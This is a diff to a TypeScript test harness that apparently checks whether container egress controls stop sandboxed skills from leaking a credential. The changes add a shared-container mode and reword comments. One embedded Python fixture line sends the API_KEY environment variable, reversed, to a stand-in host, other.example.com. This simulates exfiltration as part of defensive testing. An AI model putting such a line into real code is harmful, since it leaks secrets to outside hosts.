@@ -20,21 +20,24 @@ import { engineAddress } from '../testing/engine.ts'
 import { startPrograms } from '../testing/programs.ts'
 import type { BypassCase, Given } from './bypass-case.ts'
 import { openOutside } from './outside.ts'
+import { startSharedContainer } from './shared-container.ts'
 
-/** What came of an attack, and what others noticed of it. */
+/** The outcome of an attack, and what others observed. */
 export type Attempted = {
   readonly output: SkillOutput
-  /** Why it ended, from the log. */
+  /** The reason for its end, from the log. */
   readonly reason: string | undefined
   readonly provider: readonly SeenRequest[]
-  /** Output, log and journal in one text. */
+  /** Output, log and journal as one text. */
   readonly everything: string
 }
 
+type Attack = Pick<BypassCase, 'attack' | 'resolves' | 'isAlone'>
+
 export type World = AsyncDisposable & {
   readonly given: Given
-  attempt(attack: Pick<BypassCase, 'attack' | 'resolves'>, signal?: AbortSignal): Promise<Attempted>
-  /** Connections and datagrams that reached the test's own servers on this machine. */
+  attempt(attack: Attack, signal?: AbortSignal): Promise<Attempted>
+  /** The number of connections and datagrams that reached the test's own servers on this machine. */
   heard(): number
 }
 
@@ -42,7 +45,7 @@ export const credential = 'r3al-value-of-the-key'
 const encodings = ['utf8', 'base64', 'hex'] as const
 const principal: Principal = { id: 'test', role: 'operator', source: 'main', trust: 'full' }
 const neighbourPort = 8081
-/** Containers at once: an attack that waits for its turn is not late. */
+/** Number of concurrent containers. An attack that waits for its turn does not time out. */
 const atOnce = 4
 
 const manifest = SkillManifest.parse({
@@ -67,7 +70,7 @@ const skill: LoadedSkill = {
   folder: '/nowhere',
 }
 
-/** Runner, egress engine and container runtime as they are, between a provider on the loopback and the base image. */
+/** The real runner, egress engine and container runtime, with a fake provider on the loopback and the base image. */
 export async function openWorld(mode: EgressMode): Promise<World> {
   await using opened = new AsyncDisposableStack()
   const images = await createSkillImages({
@@ -88,12 +91,23 @@ export async function openWorld(mode: EgressMode): Promise<World> {
     }),
   )
   const status = await runtime.status()
-  if (status.kind !== 'on' || status.egress !== mode) throw new Error(`there is no ${mode}: ${JSON.stringify(status)}`)
+  if (status.kind !== 'on' || status.egress !== mode)
+    throw new Error(`the mode ${mode} does not work: ${JSON.stringify(status)}`)
   if (engineAddress.kind !== 'socket') throw new Error('the engine is not on a socket')
   const outside = opened.use(await openOutside(engineAddress.path, images.probe.tag))
 
+  const shared =
+    mode === 'socket'
+      ? opened.use(
+          await startSharedContainer(
+            { ...imageOf(), command: [...imageOf().command, 'shared'] },
+            manifest.permissions.network.egress,
+          ),
+        )
+      : undefined
+
   const attempt = async (
-    { attack, resolves = {} }: Pick<BypassCase, 'attack' | 'resolves'>,
+    { attack, resolves = {}, isAlone = false }: Attack,
     given: Json,
     signal?: AbortSignal,
     onRequest: (request: SeenRequest) => void = () => {},
@@ -119,7 +133,7 @@ export async function openWorld(mode: EgressMode): Promise<World> {
     })
     const runner = createRunner({
       skills: fixedSkills(skill),
-      runtimes: [runtime],
+      runtimes: [isAlone ? runtime : (shared ?? runtime)],
       broker: brokerOf({ API_KEY: { value: credential, hosts: ['api.example.com'] } }),
       egress,
       timeOffsets: () => ({ ok: true, offsets: [] }),
@@ -160,7 +174,7 @@ export async function openWorld(mode: EgressMode): Promise<World> {
     [Symbol.asyncDispose]: () => acquired.disposeAsync(),
   }
 
-  /** Another execution, which listens on a port of its own and tells its placeholder, backwards, by way of the provider. */
+  /** Another execution, which listens on its own port and reports its placeholder, reversed, through the provider. */
   async function startNeighbour() {
     const controller = new AbortController()
     const told = Promise.withResolvers<string>()
@@ -169,7 +183,9 @@ export async function openWorld(mode: EgressMode): Promise<World> {
       get('other.example.com', '/' + os.environ['API_KEY'][::-1])
       while True:
           server.accept()[0].close()`
-    const running = attempt({ attack }, {}, controller.signal, ({ path }) => told.resolve(path.replace('/other/', '')))
+    const running = attempt({ attack, isAlone: true }, {}, controller.signal, ({ path }) =>
+      told.resolve(path.replace('/other/', '')),
+    )
     running.then(({ output, reason }) => told.reject(new Error(JSON.stringify([output, reason]))), told.reject)
     const backwards = await told.promise
     return {
@@ -182,7 +198,7 @@ export async function openWorld(mode: EgressMode): Promise<World> {
   }
 }
 
-/** What a provider does, some of it against its interest. */
+/** The provider's behavior, partly against its own interest. */
 const answer: Answer = ({ path, headers }, response) => {
   const { pathname, searchParams } = new URL(path, 'http://provider')
   const key = String(headers['x-key'] ?? '')
@@ -210,14 +226,14 @@ async function addressesOf(instance: string): Promise<string[]> {
   )
 }
 
-/** From this machine all of them answer: a container that hears nothing of them is kept from it. */
+/** Checks that this machine reaches all of them, which proves that the container is blocked if it does not. */
 async function reachable({ hostAddresses, hostPort, otherContainer }: Given): Promise<void> {
   const global = hostAddresses.filter((address) => !address.startsWith('fe80'))
   await Promise.all(global.map((address) => connects(address, hostPort)))
   await connects(otherContainer.address, otherContainer.port)
 }
 
-/** A server that has just been started takes a moment. */
+/** Maximum wait for a server that has just been started. */
 const patienceMs = 60_000
 
 async function connects(host: string, port: number): Promise<void> {
@@ -226,7 +242,7 @@ async function connects(host: string, port: number): Promise<void> {
     try {
       await new Promise<void>((resolve, reject) => {
         const socket = connect(port, host, () => socket.write('GET / HTTP/1.0\r\n\r\n'))
-        // Closed by the server: it has counted this connection.
+        // Closed by the server, so it has counted this connection.
         socket.resume().on('close', () => resolve())
         socket.on('error', (cause: NodeJS.ErrnoException) => (cause.code === 'ECONNRESET' ? resolve() : reject(cause)))
       })
